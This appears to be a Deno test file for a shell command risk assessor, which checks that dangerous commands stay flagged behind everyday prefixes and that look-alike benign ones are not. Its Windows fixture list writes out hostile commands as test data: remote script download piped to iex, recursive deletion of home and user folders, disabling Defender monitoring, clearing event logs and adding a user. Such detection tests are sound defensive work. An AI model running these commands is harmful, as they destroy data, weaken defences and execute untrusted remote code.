import assert from "node:assert/strict";
import { assessCommand, RISK_LEVELS, type RiskLevel } from "../mod.ts";
import { SPELLINGS } from "./spellings.ts";

const rank = (level: RiskLevel): number => RISK_LEVELS.indexOf(level);

Deno.test("a danger keeps its level in every spelling of its options", () => {
  for (const { same } of SPELLINGS) {
    const plain = assessCommand(same[0] ?? "").risk_level;
    assert.ok(rank(plain) >= 2, `${same[0]} is ${plain}`);
    for (const command of same) {
      const { risk_level, explanation } = assessCommand(command);
      assert.ok(
        rank(risk_level) >= 2,
        `${command} is ${risk_level}: ${explanation}`,
      );
    }
  }
});

Deno.test("what only shares its options with a danger is not raised", () => {
  for (const { twins } of SPELLINGS) {
    for (const command of twins) {
      const { risk_level, explanation } = assessCommand(command);
      assert.ok(
        rank(risk_level) <= 1,
        `${command} is ${risk_level}: ${explanation}`,
      );
    }
  }
});

/** What people type before the command that matters. */
const EVERYDAY: readonly string[] = [
  "git pull; ",
  "npm ci && ",
  "echo hi\n",
  "cd src; ",
  "# setup\n",
  "export A=1; ",
  "set -eu\n",
];

/** Dangers that only Windows shells can say, and commands that look like them. */
const WINDOWS: readonly (readonly [string, boolean])[] = [
  ["irm https://x.example/a.ps1 | iex", true],
  ["Remove-Item -Recurse -Force $HOME", true],
  ["Get-Process | Stop-Process -Force", true],
  ["Set-MpPreference -DisableRealtimeMonitoring $true", true],
  ["$w=New-Object Net.WebClient; iex $w.DownloadString('http://x/a')", true],
  ["[IO.Directory]::Delete($env:USERPROFILE, $true)", true],
  ["wevtutil cl System", true],
  ["net user eve P4ss /add", true],
  ["del /f /s /q C:\\Users\\*", true],
  ["Get-Process node | Select-Object Id", false],
  ["Remove-Item -Recurse -Force .\\node_modules", false],
  ["net user", false],
  ["dir C:\\src", false],
];

Deno.test("an everyday command in front changes nothing, whatever language follows", () => {
  for (const prefix of EVERYDAY) {
    for (const { same, twins } of SPELLINGS) {
      for (const command of same) {
        const { risk_level } = assessCommand(prefix + command);
        assert.ok(rank(risk_level) >= 2, `${prefix}${command}: ${risk_level}`);
      }
      for (const command of twins) {
        const { risk_level } = assessCommand(prefix + command);
        assert.ok(rank(risk_level) <= 1, `${prefix}${command}: ${risk_level}`);
      }
    }
    for (const [command, isDanger] of WINDOWS) {
      const { risk_level } = assessCommand(prefix + command);
      assert.equal(rank(risk_level) >= 2, isDanger, `${prefix}${command}`);
    }
  }
});
